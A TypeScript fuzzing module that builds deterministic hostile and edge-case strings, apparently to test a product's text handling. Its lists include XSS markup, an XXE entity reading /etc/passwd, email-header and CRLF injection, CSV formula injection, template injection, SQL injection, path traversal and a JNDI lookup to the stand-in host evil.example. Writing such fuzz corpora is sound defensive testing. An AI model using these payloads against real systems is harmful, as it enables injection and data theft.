/** Texts that people should not write, and some do: well-known ones as they are, and mixtures of their parts by chance. */
import { chanceOf } from '../../infra/local/demo/seeded-random.ts';

const MARKUP = [
  '<script>document.title=`owned`</script>',
  '<img src=x onerror="document.title=`owned`">',
  '<svg/onload=document.title=`owned`>',
  '"><svg onload=document.title=`owned`>',
  "'><img src=x onerror=document.title='owned'>",
  '</title></textarea></style></script><script>document.title=`owned`</script>',
  '<iframe srcdoc="<script>parent.document.title=`owned`</script>">',
  '<a href="javascript:document.title=`owned`">a</a>',
  '<form action=https://evil.example><button>Send</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>*{display:none}</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=document.title=`owned`>',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '&lt;script&gt;',
  '&#60;b&#62;',
  '&amp;amp;',
  '<b onmouseover=alert(1)',
  '<x contenteditable onblur=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<template><script>1</script></template>',
];
const LINKS = [
  'https://evil.example/login',
  'http://evil.example',
  'www.evil.example',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>1</script>',
  '[click](https://evil.example)',
  '![x](https://evil.example/pixel.gif)',
  '[x](javascript:alert(1))',
  '<https://evil.example>',
  'mailto:a@b.example?bcc=c@d.example',
  '//evil.example',
  'evil.example',
  'a@evil.example',
];
const HEADERS = [
  '\r\nBcc: other@example.org',
  '\nBcc: other@example.org',
  '\rBcc: other@example.org',
  '\r\n\r\n<b>body</b>',
  '\u2028Bcc: other@example.org',
  '=?utf-8?Q?=0D=0ABcc:_other@example.org?=',
  '\r\n.\r\n',
  'ana@example.org, other@example.org',
  '"Ana" <other@example.org>',
  '--=_boundary--',
  'END:VEVENT\r\nBEGIN:VALARM',
  'END:VEVENT\nBEGIN:VEVENT',
  'x\rATTENDEE:mailto:other@example.org',
  '\\n\\,\\;\\\\',
  ';X=1:',
];
const FORMULAS = [
  '=HYPERLINK("https://evil.example","x")',
  '=cmd|"/c calc"!A0',
  '+1+1',
  '-1-1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '"=1+1',
  'a,b;c\td',
  'a"b""c',
  '00123',
  '1e309',
  '_x000D_=1',
];
const TEMPLATES = [
  '{{ constructor.constructor("return process")() }}',
  '{% include "/etc/passwd" %}',
  '{% render "x" %}',
  '{% for i in (1..100000000) %}x{% endfor %}',
  '{% assign x = "a" %}',
  '{{',
  '}}',
  '{%',
  '{% raw %}',
  '{% endraw %}',
  '{{ person.firstName }}',
  '{{ "x" | append: "y" }}',
  '${7*7}',
  '#{7*7}',
  'liquid0tag',
  'MENTORLINE_CONTENT',
  '__proto__',
  'constructor',
  '$&$1$`',
];
const MARKS = [
  '**bold**',
  '# Head',
  '> quoted',
  '```\ncode',
  '| a | b |\n|---|---|',
  '- one\n- two',
  '1. one',
  '---',
  '`x`',
  '\\',
  '~~~',
  '[x]: https://evil.example',
];
const SIGNS = [
  '\u202egro.elgoog',
  '\u202c',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\ud800',
  '\udc00',
  '\uffff',
  '\ufffe',
  '👩‍👩‍👧‍👦',
  '🎉'.repeat(50),
  'Z\u0351\u036b\u0343'.repeat(20),
  'ß',
  'ﬁ',
  'İ',
  '\u0131',
  'Ana\u0301',
  'علي',
  '中文',
  'a'.repeat(5000),
  ' '.repeat(300),
  '\n'.repeat(60),
  '\t\t',
  '%00',
  '%0d%0aBcc:x',
  '../../etc/passwd',
  "'; DROP TABLE people; --",
  '${jndi:ldap://evil.example/a}',
  '{"$ne":null}',
  'null',
  'undefined',
  'NaN',
  '-0',
  'true',
  'O’Hara',
  "O'Hara",
  'Ana & Ben',
  'Ana "Annie" Lima',
  'x <y> z',
  '',
  ' ',
];

/** Each of them is tried as it is before anything is mixed. */
export const CURATED = [MARKUP, LINKS, HEADERS, FORMULAS, TEMPLATES, MARKS, SIGNS].flat();
const FRAMES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Ana ${text}`,
  (text) => `${text} Lima`,
  (text) => `Ana "${text}`,
  (text) => `Ana '${text}' Lima`,
  (text) => `${text}${text}`,
  (text) => text.toUpperCase(),
  (text) => Array.from(text).join('\u200b'),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => text.replaceAll('<', '&lt;'),
  (text) => `\n${text}\n`,
];

/** The text of a number: the same for ever. Those below the number of curated texts in all frames are curated. */
export function textNumbered(number: number): string {
  const frames = FRAMES.length;
  if (number < CURATED.length * frames) {
    const frame = FRAMES[number % frames];
    return frame?.(CURATED[Math.floor(number / frames)] ?? '') ?? '';
  }
  const chance = chanceOf(number);
  const parts = 1 + Math.floor(chance('parts') * 4);
  const pick = (at: number): string => {
    const sort = chance('sort', at);
    if (sort < 0.2) return signs(chance, at);
    return CURATED[Math.floor(chance('part', at) * CURATED.length)] ?? '';
  };
  const text = Array.from({ length: parts }, (_, at) => pick(at)).join(chance('gap') < 0.5 ? '' : ' ');
  return FRAMES[Math.floor(chance('frame') * frames)]?.(text) ?? text;
}

/** A run of code units by chance, well formed or not. */
function signs(chance: ReturnType<typeof chanceOf>, at: number): string {
  const length = 1 + Math.floor(chance('length', at) * 12);
  const planes = [0x20, 0x80, 0x100, 0x3000, 0xd800, 0xe000, 0xff00];
  return Array.from({ length }, (_, index) => {
    const plane = planes[Math.floor(chance('plane', at, index) * planes.length)] ?? 0;
    return String.fromCharCode(plane + Math.floor(chance('sign', at, index) * 0x100));
  }).join('');
}
